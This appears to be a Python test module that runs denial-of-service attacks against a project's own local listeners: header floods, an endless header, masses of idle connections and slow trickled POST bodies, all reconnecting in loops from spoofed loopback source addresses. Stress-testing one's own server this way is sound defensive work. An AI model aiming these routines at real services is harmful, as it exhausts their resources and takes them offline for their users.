"""H1: what can be done to listeners without credentials. Attackers are at 127.0.0.2 and on, others at 127.0.0.1."""

import asyncio
import ssl
from contextlib import suppress
from functools import partial
from itertools import cycle
from typing import Final

from tests.attack.attack import Attack, Target

SOURCES: Final = cycle(f"127.0.0.{number}" for number in range(2, 32))
MANY_HEADERS: Final = 60 << 20  # bytes, as in the review
SILENT: Final = 1100  # connections to each listener
SLOW: Final = 200
PIECE: Final = 64 * 1024
AGAIN_AFTER: Final = 1.0  # seconds: an attacker that is refused comes back
POURED_AGAIN_AFTER: Final = 0.02  # one that pours is one connection
TRICKLE: Final = 1.0  # seconds between two bytes of a slow body
POST: Final = b"POST /api/v1/certificates HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n\r\n"
GONE: Final = (OSError, asyncio.IncompleteReadError)


async def _connected(port: int, *, tls: bool = False) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    context = None
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return await asyncio.open_connection("127.0.0.1", port, ssl=context, local_addr=(next(SOURCES), 0))


async def _pour(port: int, first: bytes, piece: bytes, most: int, *, tls: bool) -> None:
    """Send without end, or so many bytes, for as long as the server lets us; then again."""
    while True:
        with suppress(*GONE):
            _, writer = await _connected(port, tls=tls)
            try:
                writer.write(first)
                for _ in range(most // len(piece)):
                    writer.write(piece)
                    await writer.drain()
            finally:
                writer.transport.abort()
        await asyncio.sleep(POURED_AGAIN_AFTER)


async def many_headers(target: Target) -> None:
    fields = b"".join(b"X-%05d: %s\r\n" % (number, b"a" * 20) for number in range(2000))
    first = b"GET / HTTP/1.1\r\nHost: x\r\n"
    await asyncio.gather(
        _pour(target.server, first, fields, MANY_HEADERS, tls=False),
        _pour(target.acme, first, fields, MANY_HEADERS, tls=True),
    )


async def endless_header(target: Target) -> None:
    first, piece = b"GET / HTTP/1.1\r\nHost: x\r\nX: ", b"a" * PIECE
    await asyncio.gather(
        _pour(target.server, first, piece, 1 << 40, tls=False),
        _pour(target.acme, first, piece, 1 << 40, tls=True),
    )


async def _hold(port: int, first: bytes, then: bytes) -> None:
    """Keep one connection for as long as the server lets us, and come back."""
    while True:
        with suppress(*GONE):
            reader, writer = await _connected(port)
            try:
                writer.write(first)
                ended = asyncio.ensure_future(reader.read())
                while not (await asyncio.wait({ended}, timeout=TRICKLE))[0]:
                    writer.write(then)
                ended.result()
            finally:
                writer.transport.abort()
        await asyncio.sleep(AGAIN_AFTER)


async def silent_connections(target: Target) -> None:
    ports = [target.server] * SILENT + [target.acme] * SILENT
    await asyncio.gather(*(_hold(port, b"", b"") for port in ports))


async def slow_bodies(target: Target) -> None:
    await asyncio.gather(*(_hold(target.server, POST, b"a") for _ in range(SLOW)))


ATTACKS: Final = tuple(
    Attack(run.__name__, "H1", partial(run)) for run in (many_headers, endless_header, silent_connections, slow_bodies)
)
